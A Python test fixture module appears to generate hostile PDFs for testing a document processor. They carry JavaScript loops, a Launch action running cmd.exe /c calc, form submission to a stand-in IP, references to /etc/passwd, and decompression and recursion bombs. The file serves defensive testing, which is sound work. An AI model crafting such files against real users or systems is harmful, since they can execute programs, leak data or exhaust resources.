"""PDFs that would run something, fetch something, fill the memory, or never end."""

import zlib

from tests.fakes.hostile.pdf import A4, TEXT, flate, of_pages, pdf, raw, stream
from tests.fakes.hostile.pictures import CANARY, PAGE, picture, xmp, zipped

NAME = CANARY.decode()
IMAGE = "/Type /XObject /Subtype /Image /ColorSpace /DeviceRGB /BitsPerComponent 8"
FORM = "/Type /XObject /Subtype /Form /BBox [0 0 595 842]"
XFA = b"<xdp:xdp xmlns:xdp='http://ns.adobe.com/xdp/'><script>app.alert('" + CANARY + b"')</script></xdp:xdp>"


def field(more):
    """A PDF with a form field that is filled in."""
    return pdf(
        TEXT,
        f"<< /Type /Annot /Subtype /Widget /FT /Tx /T (who) /V ({NAME}) /Rect [72 600 300 640] /P 3 0 R "
        f"/DA (/F1 18 Tf 0 g) {more} >>",
        root="/AcroForm << /Fields [6 0 R] /DR << /Font << /F1 5 0 R >> >> /NeedAppearances true >>",
        page="/Annots [6 0 R]",
    )


def locked(word):
    return pdf(
        trailer=f"/Encrypt << /Filter /{word} /V 1 /R 2 /Length 40 /P -44 /O <{'ab' * 32}> /U <{'cd' * 32}> >> "
        f"/ID [<{'01' * 16}> <{'01' * 16}>]"
    )


def packed_objects():
    """An object stream that unpacks to 100 MB."""
    body = b"7 0 " + bytes(100_000_000)
    return pdf(TEXT, stream(zlib.compress(body), "/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode"), root="/X 7 0 R")


def nested_pages(deep):
    between = [f"<< /Type /Pages /Kids [{at + 3} 0 R] /Count 1 /Parent {at + 1} 0 R >>" for at in range(deep)]
    last = f"<< /Type /Page /Parent {deep + 1} 0 R /MediaBox {A4} >>"
    return raw(["<< /Type /Catalog /Pages 2 0 R >>", *between, last])


def doubling(levels):
    """Forms of which each draws the next ten times."""
    forms = [stream(b"/X Do " * 10, f"{FORM} /Resources << /XObject << /X {at + 7} 0 R >> >>") for at in range(levels)]
    return pdf(b"/X Do", *forms, stream(b"0 0 9 9 re f", FORM), resources="/XObject << /X 6 0 R >>")


def image(about, content=b"\0" * 30):
    return pdf(
        b"q 500 0 0 500 50 50 cm /X Do Q", stream(content, f"{IMAGE} {about}"), resources="/XObject << /X 6 0 R >>"
    )


def tiles(step):
    pattern = stream(
        b"0 0 1 1 re f",
        f"/Type /Pattern /PatternType 1 /PaintType 1 /TilingType 1 /BBox [0 0 1 1] /XStep {step} /YStep {step} /Resources << >>",
    )
    return pdf(b"/Pattern cs /P1 scn 0 0 595 842 re f", pattern, resources="/Pattern << /P1 6 0 R >>")


def action(what):
    return lambda: pdf(TEXT, root=f"/OpenAction << /Type /Action {what} >>")


KEPT = {
    "PDF that tells who made it": lambda: pdf(
        TEXT,
        stream(xmp(), "/Type /Metadata /Subtype /XML"),
        root="/Metadata 6 0 R",
        trailer=f"/Info << /Author ({NAME}) >>",
    ),
    "PDF that runs a script": action(f"/S /JavaScript /JS (app.alert\\('{NAME}'\\); while\\(true\\);)"),
    "PDF that starts a program": action(f"/S /Launch /F ({NAME}.exe) /Win << /F (cmd.exe) /P (/c calc) >>"),
    "PDF that fetches an address": action(f"/S /URI /URI (http://192.0.2.1/{NAME})"),
    "PDF that sends its form away": action(f"/S /SubmitForm /F (http://192.0.2.1/{NAME}) /Flags 4"),
    "PDF that opens another": action("/S /GoToR /F (file:///etc/passwd) /D [0 /Fit]"),
    "PDF whose content is another file": lambda: pdf(b"<< /Length 0 /F (/etc/passwd) >>\nstream\n\nendstream"),
    "PDF with a file in it": lambda: pdf(
        TEXT,
        "<< /Type /Filespec /F (a.exe) /EF << /F 7 0 R >> >>",
        stream(zipped(), "/Type /EmbeddedFile"),
        root="/Names << /EmbeddedFiles << /Names [(a) 6 0 R] >> >>",
    ),
    "PDF with XFA": lambda: pdf(TEXT, stream(XFA), root="/AcroForm << /XFA 6 0 R /Fields [] >> /NeedsRendering true"),
    "PDF with a form that calculates": lambda: field(f"/AA << /C << /S /JavaScript /JS (event.value='{NAME}') >> >>"),
    "PDF with a page behind it": lambda: pdf() + PAGE,
    "PDF with an archive behind it": lambda: pdf() + zipped(),
    "PDF with a hidden picture that tells": lambda: image(
        "/Width 60 /Height 40 /Filter /DCTDecode", picture(comment=CANARY)
    ),
    "PDF of 20 pages": lambda: of_pages(20),
}
REFUSED = {
    "PDF of 21 pages": lambda: of_pages(21),
    "PDF of 10,000 pages": lambda: of_pages(10_000),
    "PDF with a password": lambda: locked("Standard"),
    "PDF locked by a lock nobody knows": lambda: locked("Mallory.Lock"),
    "PDF of no pages": lambda: raw(["<< /Type /Catalog /Pages 2 0 R >>", "<< /Type /Pages /Kids [] /Count 0 >>"]),
    "PDF head alone": lambda: b"%PDF-1.7\n",
    "PDF whose catalogue is itself its pages": lambda: raw(["<< /Type /Catalog /Pages 1 0 R /Kids [1 0 R] >>"]),
}
EITHER = {
    "PDF whose pages are nested 5,000 deep": lambda: nested_pages(5_000),
    "PDF whose pages are their own child": lambda: raw(
        ["<< /Type /Catalog /Pages 2 0 R >>", "<< /Type /Pages /Kids [2 0 R 2 0 R] /Count 5 >>"]
    ),
    "PDF that says 2,147,483,647 pages": lambda: raw(
        ["<< /Type /Catalog /Pages 2 0 R >>", "<< /Type /Pages /Kids [3 0 R] /Count 2147483647 >>", "<< /Type /Page >>"]
    ),
    "PDF whose form draws itself": lambda: pdf(
        b"/X Do",
        stream(b"/X Do", f"{FORM} /Resources << /XObject << /X 6 0 R >> >>"),
        resources="/XObject << /X 6 0 R >>",
    ),
    "PDF of forms that draw ten others, nine deep": lambda: doubling(9),
    "PDF that unpacks to 300 MB": lambda: pdf(flate(bytes(300_000_000))),
    "PDF packed three times": lambda: pdf(flate(b"0 0 9 9 re f " * 20_000_000, 3)),
    "PDF with packed objects of 100 MB": packed_objects,
    "PDF of brackets, a million deep": lambda: pdf(b"[" * 1_000_000),
    "PDF of saved states, a million deep": lambda: pdf(b"q " * 1_000_000 + TEXT),
    "PDF of a million lines": lambda: pdf(
        b"".join(b"%d %d l " % (at % 595, at % 842) for at in range(1_000_000)) + b"S"
    ),
    "PDF of a million shapes that shine through": lambda: pdf(
        b"/G gs " + b"0 0 595 842 re f " * 1_000_000, resources="/ExtGState << /G << /ca 0.5 /BM /Luminosity >> >>"
    ),
    "PDF of a page of 10 to the 30th": lambda: pdf(box="[0 0 1e30 1e30]"),
    "PDF of a page of no size": lambda: pdf(box="[0 0 0 0]"),
    "PDF of a page of a hair's breadth": lambda: pdf(box="[0 0 0.00001 100000]"),
    "PDF of a page inside out": lambda: pdf(box="[500 500 -500 -500]"),
    "PDF with a picture of 65,000 by 65,000": lambda: image("/Width 65000 /Height 65000"),
    "PDF with a picture that unpacks to 300 MB": lambda: image(
        "/Width 10000 /Height 10000 /Filter /FlateDecode", zlib.compress(bytes(300_000_000))
    ),
    "PDF with a JPEG 2000 that is none": lambda: image(
        "/Width 90 /Height 90 /Filter /JPXDecode", b"\xff\x4f\xff\x51" + CANARY
    ),
    "PDF with a JBIG2 that is none": lambda: image("/Width 90 /Height 90 /Filter /JBIG2Decode", b"\xff" * 500),
    "PDF with a fax that is none": lambda: image(
        "/Width 60000 /Height 60000 /Filter /CCITTFaxDecode /DecodeParms << /K -1 /Columns 60000 >>", b"\0" * 9_000
    ),
    "PDF of tiles as small as nothing": lambda: tiles(0.0001),
    "PDF with a font that is none": lambda: pdf(
        TEXT,
        "<< /Type /FontDescriptor /FontName /X /FontFile2 7 0 R >>",
        stream(b"\0\1\0\0\xff\xff" + CANARY * 900),
        resources="/Font << /F1 << /Type /Font /Subtype /TrueType /BaseFont /X /FontDescriptor 6 0 R >> >>",
    ),
    "PDF whose letters are written in themselves": lambda: pdf(
        TEXT,
        stream(b"BT /F1 9 Tf (aaaa) Tj ET"),
        resources="/Font << /F1 << /Type /Font /Subtype /Type3 /FontBBox [0 0 9 9] /FontMatrix [1 0 0 1 0 0] /FirstChar 97 "
        "/LastChar 97 /Widths [9] /Encoding << /Differences [97 /a] >> /CharProcs << /a 6 0 R >> "
        "/Resources << >> >> >>",
    ),
}
